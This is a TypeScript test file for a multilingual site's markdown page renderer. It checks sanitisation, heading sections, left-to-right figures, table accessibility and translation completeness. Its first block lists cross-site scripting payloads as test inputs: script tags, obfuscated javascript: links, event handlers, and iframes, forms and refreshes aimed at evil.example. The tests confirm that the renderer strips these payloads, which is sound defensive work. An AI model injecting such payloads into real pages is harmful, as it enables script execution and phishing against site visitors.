import { pageIds, pageSlugs } from "@contract/content/page-slugs";
import { languages } from "@contract/vocabulary/languages";
import { parse } from "node-html-parser";
import { describe, expect, test } from "vitest";
import { covers } from "../../../tests/coverage/covers";
import { kindOf } from "./page-kinds";
import { readPageText, splitText } from "./read-texts";
import { renderPage } from "./render-page";

describe("no markup an author enters can execute", () => {
  test.each([
    ["a script", "<script>alert(1)</script>"],
    ["a script in capitals, unclosed", "<SCRIPT SRC=//evil.example/x.js"],
    ["an address that is a script", "[x](javascript:alert(1))"],
    ["the same, hidden", "[x](java\tscript:alert(1)) [y](&#106;avascript:alert(1)) [z](JaVaScRiPt:alert(1))"],
    ["an autolink that is a script", "<javascript:alert(1)>"],
    ["a link by reference that is a script", "[x][1]\n\n[1]: javascript:alert(1)"],
    ["a page as data", "[x](data:text/html;base64,PHNjcmlwdD4=)"],
    ["a picture as data", "![x](data:image/svg+xml;base64,PHN2Zz4=)"],
    ["a picture of elsewhere", "![x](https://evil.example/pixel.gif)"],
    ["a picture with a handler", '<img src=x onerror="alert(1)">'],
    ["a frame", '<iframe src="https://evil.example"></iframe>'],
    ["a drawing", "<svg onload=alert(1)><script>alert(1)</script></svg>"],
    ["a style", "<style>*{display:none}</style><p style='position:fixed'>x</p>"],
    ["a form", "<form action=https://evil.example><input name=card></form>"],
    ["a base", "<base href=https://evil.example>"],
    ["a refresh", '<meta http-equiv=refresh content="0;url=https://evil.example">'],
    ["a handler on a heading", '## <b onmouseover="alert(1)">x</b>'],
    ["attributes in a title", '[x](/a "\\" onmouseover=alert(1) \\"")'],
    ["script in a code span", "`<script>alert(1)</script>`"],
    ["old tricks", "<a href='vbscript:x'>x</a><object data=x></object><embed src=x><math><mtext></mtext></math>"],
  ])("%s", (_, text) => {
    const { html } = renderPage(text, "en");
    const tags = [...html.matchAll(/<\/?([a-z][a-z0-9]*)([^>]*)>/gi)];
    for (const [, tag, attributes] of tags) {
      expect(tag).toMatch(/^(p|h2|a|bdi|div|ul|ol|li|strong|em)$/);
      expect(attributes).not.toMatch(/\son\w+=|style=|javascript:|vbscript:|data:|src=/i);
    }
    expect(html).not.toMatch(/<(script|img|iframe|svg|style|form|input|base|meta|object|embed)/i);
  });

  test("an external link is marked for crawlers, and a protocol-relative path is not one of ours", () => {
    expect(renderPage("[x](https://caa.gov.il/)", "he").html).toContain('rel="noopener nofollow"');
    expect(renderPage("[x](//evil.example)", "en").html).not.toContain("evil.example");
  });
});

test("headings become sections, page links keep the language, and figures are set left to right", () => {
  const text = "## One `09:00–20:00`\n\n[about](page:about) [orders](/order-check#x) [none](page:nowhere)\n\n## Two";
  const { html, sections } = renderPage(text, "ru");
  expect(sections).toEqual([
    { id: "part-1", title: "One 09:00–20:00" },
    { id: "part-2", title: "Two" },
  ]);
  expect(html).toContain('<h2 id="part-1">');
  expect(html).toContain("<bdi>\u206609:00\u2069–\u2060\u206620:00\u2069</bdi>");
  expect(renderPage("`03-1234567`", "he").html).toContain('<bdi dir="ltr">03-1234567</bdi>');
  expect(html).toContain(`href="/${pageSlugs.about}?lang=ru"`);
  expect(html).toContain('href="/order-check?lang=ru#x"');
  expect(renderPage("[about](page:about)", "he").html).toContain(`href="/${pageSlugs.about}"`);
});

test("the scroll box of a table is a region with the name of the heading above it, or of its columns", () => {
  const table = "| Days | Fee |\n|---|---|\n| 14 | 5% |";
  const boxOf = (text: string) => parse(sanitised(text)).querySelector("div.scroll")!;
  const sanitised = (text: string) => renderPage(text, "en").html;
  for (const [text, name] of [
    [`## Other\n\nx\n\n## "Fees" & days\n\n${table}`, '"Fees" & days'],
    [table, "Days, Fee"],
  ] as const) {
    const box = boxOf(text);
    expect([box.getAttribute("role"), box.getAttribute("aria-label"), box.getAttribute("tabindex")]).toEqual([
      "region",
      name,
      "0",
    ]);
    expect(box.querySelectorAll("td")).toHaveLength(2);
  }
});

const letters = { he: /[א-ת]/g, en: /[a-z]/gi, ru: /[а-яё]/gi, ar: /[\u0621-\u064a]/g };

describe.each(pageIds)("the text of %s", (id) => {
  test.each(languages)("is complete in %s", (language) => {
    covers(
      "2.23",
      "2.24",
      "2.25",
      "2.26",
      "2.27",
      "2.28",
      "2.29",
      "2.30",
      "2.31",
      "2.32",
      "2.33",
      "2.34",
      "2.35",
      "2.36",
    );
    const { title, lead, body } = readPageText(id, language);
    const { html, sections } = renderPage(body, language);
    expect(title.length).toBeLessThan(80);
    expect(lead.length).toBeGreaterThan(60);
    expect(sections.length).toBeGreaterThanOrEqual(3);
    expect(html.length).toBeGreaterThan(1000);
    // Each section has as many headings, list items and rows as the Hebrew one.
    const shape = (text: string) => (text.match(/^(##|-|\d\.|\|)/gm) ?? []).join(" ");
    expect(shape(body)).toBe(shape(readPageText(id, "he").body));
    const own = (body.match(letters[language]) ?? []).length;
    const all = (body.replace(/\(page:[a-z-]+\)|\(\/[a-z/-]+\)/g, "").match(/\p{L}/gu) ?? []).length;
    expect(own / all).toBeGreaterThan(0.95);
    for (const [, link] of body.matchAll(/\]\(page:([a-z-]+)\)/g)) expect(kindOf(link!)).toBeDefined();
  });
});

test("a text without a heading or paragraph is reported by name at start", () => {
  expect(() => splitText("no heading", "about in he")).toThrow("about in he");
});
